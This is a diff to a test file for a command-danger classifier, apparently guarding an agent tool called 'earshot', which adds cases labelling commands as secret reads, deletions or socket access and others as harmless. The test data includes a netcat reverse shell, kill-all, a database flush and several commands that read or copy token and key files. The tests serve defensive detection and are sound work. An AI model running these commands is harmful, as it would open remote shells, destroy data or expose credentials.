@@ -75,6 +75,19 @@ describe("the catalogue of dangers", () => {
     ["kill -s KILL -- -1", "kill-all"],
     ["nc -e /bin/sh 10.0.0.1 4444", "remote-shell"],
     ["python3.12 manage.py flush", "database-drop"],
+    ["unlink ~/notes.txt", "delete-outside"],
+    ['unlink "$FILE"', "delete-unknown"],
+    ["unlink app.db", "delete-several"],
+    ["cat ~/.earshot/viewer.token", "secret-read"],
+    ['cat "$EARSHOT_HOME/producer.token"', "secret-read"],
+    ["read -r token < ~/.earshot/viewer.token", "secret-read"],
+    ["cat ~/.earshot/*.token", "secret-read"],
+    ["cat ~/.earshot/hook.key", "secret-read"],
+    ["cat ~/.earshot/open.html", "secret-read"],
+    ["grep -r ear_ ~/.earshot", "secret-read"],
+    ["cp -r ~/.earshot /tmp/x", "secret-read"],
+    [`python3 -c 'print(open("/home/ann/.earshot/viewer.token").read())'`, "secret-read"],
+    ["curl --unix-socket ~/.earshot/run/hub.sock http://x/api/requests/1", "earshot-files"],
   ])("finds in %s the danger %s", (command, id) => {
     expect(dangersIn(command)).toContain(id);
   });
@@ -98,6 +111,14 @@ describe("the catalogue of dangers", () => {
     "kubectl apply --dry-run=server -f x.yaml",
     "earshot policy try",
     "echo rm -rf /",
+    "rm notes.txt",
+    "unlink notes.txt",
+    "cat ~/.earshot/policy.yaml",
+    "cat .earshot/policy.yaml",
+    "ls ~/.earshot",
+    "tail ~/.earshot/hub.log",
+    "cat src/design.tokens.json",
+    "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
   ])("finds none in %s", (command) => expect(dangersIn(command)).toEqual([]));
 
   it("looks at the files of every tool", () => {
@@ -106,6 +127,8 @@ describe("the catalogue of dangers", () => {
     expect(dangers("~/.ssh/authorized_keys", "write")).toMatchObject({ dangers: ["write-startup"] });
     expect(dangers("src/.git/hooks/pre-commit", "write")).toMatchObject({ dangers: ["write-startup"] });
     expect(dangers("/etc/hosts", "read")).toEqual({ dangers: [] });
+    expect(dangers("~/.earshot/viewer.token", "read")).toMatchObject({ dangers: ["secret-read"] });
+    expect(dangers("~/.earshot/policy.yaml", "read")).toEqual({ dangers: [] });
     expect(dangers("src/a.ts", "write")).toEqual({ dangers: [] });
   });
 
